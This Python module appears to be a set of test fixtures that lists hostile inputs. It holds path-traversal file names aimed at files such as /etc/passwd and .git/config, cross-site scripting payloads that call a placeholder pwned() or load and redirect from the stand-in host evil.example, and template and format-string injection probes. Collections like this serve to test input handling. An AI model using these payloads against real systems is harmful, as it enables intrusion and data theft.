"""Texts that attack: paths that lead out, markup that runs, spellings that template engines and formats act on."""

from __future__ import annotations

PATHS = (
    *("../x.png", "..\\x.png", "%2e%2e%2fx.png", "%252e%252e%252fx.png", "..%c0%afx.png", "....//x.png", "..;/x.png"),
    *("/etc/passwd", "C:\\Windows\\win.ini", "\\\\host\\share\\x.png", "//host/x.png", "file:///etc/passwd"),
    *("~root/x.png", "x%00.png", "x\0.png", ".git/config", "CON.png", "nul", "a.", "a ", "a" * 5000, "d/" * 2000 + "x"),
    *("\u2024\u2024/x.png", "..\uff0fx.png", "../../../../../../../../etc/passwd", "raw/../../../x.png"),
)
"""Names of files as nobody means well by."""

MARKUP = (
    *('<img src=x onerror="pwned()">', "<script>pwned()</script>", "<svg/onload=pwned()>", '"><svg onload=pwned()>'),
    *("'-pwned()-'", '" onmouseover="pwned()', "' autofocus onfocus='pwned()", "javascript:pwned()", "`${pwned()}`"),
    *(
        "</script><script>pwned()</script>",
        "</title><script>pwned()</script>",
        "</textarea><img src=x onerror=pwned()>",
    ),
    *("<iframe srcdoc='<script>parent.pwned()</script>'>", "<a href=javascript:pwned()>x</a>", "{{pwned()}}"),
    *(
        "<details open ontoggle=pwned()>",
        "<math><mi xlink:href=javascript:pwned()>",
        "<!--><img src=x onerror=pwned()>",
    ),
    *("&lt;img src=x onerror=pwned()&gt;", "<b>bold</b>", "\u2028pwned()//", "<style>@import'//evil.example'</style>"),
    *(
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<video><source onerror=pwned()>",
    ),
    *(
        "<form><button formaction=javascript:pwned()>x",
        "<x tabindex=0 onfocus=pwned() autofocus>",
        "%3Cscript%3Epwned()%3C/script%3E",
    ),
)
"""Names and texts that would call `pwned()` or change the page where they are taken for markup."""

TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{7*7}",
    "__import__('os').getcwd()",
    "%s%s%n",
    "%x%d",
    "{0.__class__}",
)
"""What template engines, format functions and evaluators would act on."""
